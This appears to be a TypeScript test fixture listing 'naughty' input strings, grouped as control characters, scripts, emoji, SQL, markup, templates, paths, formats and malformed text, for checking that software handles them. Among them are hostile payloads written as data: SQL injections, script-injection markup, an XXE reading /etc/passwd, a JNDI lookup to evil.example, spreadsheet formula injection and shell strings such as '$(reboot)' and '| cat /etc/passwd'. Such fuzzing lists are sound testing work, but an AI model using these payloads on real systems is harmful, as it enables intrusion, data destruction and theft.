// Strings that have broken software before: a set of our own, put together from what is known to go wrong, each with the reason it is here.

const codePoints = (...points: number[]): string => String.fromCodePoint(...points)
type Named = [name: string, text: string]
const between = (character: string): string => `a${character}b`
const spread = (name: string, from: number, to: number, around = between): Named[] =>
  Array.from({ length: to - from + 1 }, (_, index) => [`${name} U+${(from + index).toString(16)}`, around(codePoints(from + index))])
const listed = (name: string, ...texts: string[]): Named[] => texts.map((text, index) => [`${name} ${index + 1}`, text])

/** Control characters but NUL: allowed in JSON when escaped, hardly anywhere else. */
const controls = [...spread('control', 0x01, 0x1f), ...spread('control', 0x7f, 0x9f)]
const blanks = [
  0xa0, 0x1680, 0x2000, 0x2002, 0x2003, 0x2009, 0x200a, 0x2028, 0x2029, 0x202f, 0x205f, 0x3000, 0xfeff, 0x200b, 0x2060, 0x180e, 0xad,
].flatMap((point) => spread('blank', point, point))
const bidi = [...spread('bidi', 0x202a, 0x202e), ...spread('bidi', 0x2066, 0x2069), ...spread('bidi', 0x200e, 0x200f), ...listed(
  'bidi',
  'abc \u202egpj.exe', '\u2067אבג abc\u2069', 'שלום hello עולם', '؜١٢٣', '(\u202e)',
)]
const combining = [...spread('combining', 0x0300, 0x030f, (mark) => `e${mark}`), ...listed(
  'combining',
  'é é', 'Å Å Å', `z${'̶̡̢'.repeat(60)}`, '각', '각', 'ก็็็็็็', 'नि', '‍', 'े',
  'Z̴a̷l̶g̸o̵', 'ﬁﬂﬀ', 'ß ẞ ss', 'İ i̇ ı I', 'ǆ ǅ Ǆ', 'ﷺ', '㍿ ㌔', 'Ⅷ', '①', 'x²',
)]
const emoji = listed(
  'emoji',
  '😀', '👩‍👩‍👧‍👦', '👍🏽', '🏳️‍🌈', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '🇩🇪', '🇩', '1️⃣', '❤️', '❤', '👨🏻‍❤️‍💋‍👨🏿', '🫠', '😀'.repeat(40), '👩‍', '‍👩', '\ufe0f',
  '🤷🏾‍♂️', '☠︎', '🧑‍🚀', '©️',
)
const scripts = listed(
  'script',
  '日本語テスト', 'カタカナ ｶﾀｶﾅ', '한국어', '中文繁體', '简体中文', 'العربية', 'فارسی', 'עברית', 'ไทย', 'हिन्दी', 'தமிழ்', 'Ελληνικά', 'Русский', 'ქართული',
  'Հայերեն', 'አማርኛ', 'བོད་ཡིག', 'ᏣᎳᎩ', '𝔊𝔬𝔱𝔥𝔦𝔠', '𐎀𐎁𐎂', '𓀀𓀁', 'Ｆｕｌｌｗｉｄｔｈ', 'Tiếng Việt', 'Türkçe İı', 'Łódź', 'naïve café', 'Æsir ð þ',
  '田中さんにあげて下さい', '𠜎𠜱𠝹', '﷽',
)
const sql = listed(
  'sql',
  "'", "''", '"', '`', "' or '1'='1", "'; drop table cases; --", "1; select pg_sleep(9)--", "\\'; delete from session;",
  "' union select null,null--", "%' escape '!", '%', '_', '%_%', '\\', '\\\\', "x' AND 1=(select count(*) from sqlite_master)--", '$1',
  '$$x$$', ':name', '?', '??', 'E\'\\x00\'', '/* */', '--', ';', 'NULL', "1' waitfor delay '0:0:9'--", '{"$gt":""}', '[$ne]=1',
)
const markup = listed(
  'markup',
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '"><b>', "'><i>", '&amp;', '&lt;', '&#0;',
  '&#x110000;', '<!--', '-->', ']]>', '<![CDATA[x]]>', '<?xml version="1.0"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '</textarea><script>x</script>', '</script>',
  '<a href="javascript:alert(1)">x</a>', '<iframe srcdoc="x">', '<style>*{display:none}</style>', '<base href="//evil.example">',
  '<math><mi xlink:href="data:x">', '<details open ontoggle=alert(1)>', '<p', '<', '>', '&', '<<>>', '[x](javascript:alert(1))',
  '![x](https://evil.example/p.png)', '**b** _i_ `c`', '# h\n\n- l', '<b onclick=x>text</b>', '<scr\u0000ipt>'.replace('\0', ''),
  'javascript:alert(1)', 'data:text/html,x', 'vbscript:x',
)
const templates = listed(
  'template',
  '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{%x%}', '{0}', '{name}', '{count, plural, one {#} other {#}}', '{', '}', "'{'",
  '{{constructor.constructor("x")()}}', '$&', '$1$2', "$'", '$`', '%1$s', '\\u0041', '\\x41', '{{', '}}', '@{x}', '[[x]]', '__proto__',
  'constructor', 'toString', 'hasOwnProperty', 'undefined', 'null', 'NaN', 'true', 'false', 'Infinity',
)
const paths = listed(
  'path',
  '../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/shadow', 'C:\\con', 'CON', 'NUL', 'aux.txt', 'file:///etc/passwd', '%2e%2e%2f',
  '..%c0%af', '.', '..', '...', '~', '~root', '/dev/null', '\\\\server\\share', 'a/b', 'a\\b', 'a:b', '.htaccess', '.git/config',
  'x%00.png'.replace('%00', '%2500'),
)
const formats = listed(
  'format',
  '%s%s%s%n', '%x%x%x', '%p', '%d', '%99999999s', '\r\nSet-Cookie: x=1', '\r\n\r\n<html>', 'x\r\nBcc: all@players.example', '\t', ' ',
  '  leading', 'trailing  ', '\n\n\n', 'a\rb', 'a\r\nb', 'a\vb\fc', '=1+1', '=cmd|\'/c calc\'!A0', '+1', '-1', '@SUM(1)', '1e309',
  '1/0', '-0', '0x7f', '1_000', '01', '9007199254740993', '１２３', '1,5', '1.5', '2026-02-31', '0', '00', '--help', '-rf /', '$(reboot)',
  '`reboot`', '| cat /etc/passwd', '; ls', '&& ls', '> /tmp/x', '() { :; }; echo', '${jndi:ldap://evil.example/a}',
  'EICAR-STANDARD-ANTIVIRUS-TEST-FILE', 'https://evil.example/?a=b&c=d#e', 'http://[::1]/', 'a@b', '"a b"@c.example', 'ｅｘａｍｐｌｅ．ｃｏｍ',
  'xn--80ak6aa92e.com', 'раypal.com',
)
const nonCharacters = [0xfffe, 0xffff, 0xfdd0, 0x1fffe, 0x10ffff, 0xe000, 0xf8ff, 0xe0001, 0xfffd, 0x2fa1d]
  .flatMap((point) => spread('odd point', point, point))
const long = listed(
  'long',
  'x'.repeat(200), 'x'.repeat(2048), 'x'.repeat(2049), '😀'.repeat(1024), '😀'.repeat(2048), 'é'.repeat(3000), '<'.repeat(2000),
  '&'.repeat(2048), `${'a '.repeat(1000)}`, '\n'.repeat(500) + 'x', '"'.repeat(2000), '\\'.repeat(2000), '('.repeat(2000),
  'x'.repeat(30_000), `${'ab'.repeat(15)}!`.repeat(30),
)
/** Malformed by ground G9: no place may take them. */
export const malformed: readonly (readonly [name: string, text: string])[] = listed('malformed',
  '\0', 'a\0b', '\0\0\0', '\ud800', '\udfff', 'a\ud83d', '\ude00b', '\ud800\ud800', '\udc00\ud800', 'x\ud83d😀', 'end\udbff')

/** Well-formed, every one: taken as they are, or refused in words. */
export const naughty: readonly (readonly [name: string, text: string])[] = [
  ...controls, ...blanks, ...bidi, ...combining, ...emoji, ...scripts,
  ...sql, ...markup, ...templates, ...paths, ...formats, ...nonCharacters, ...long,
]
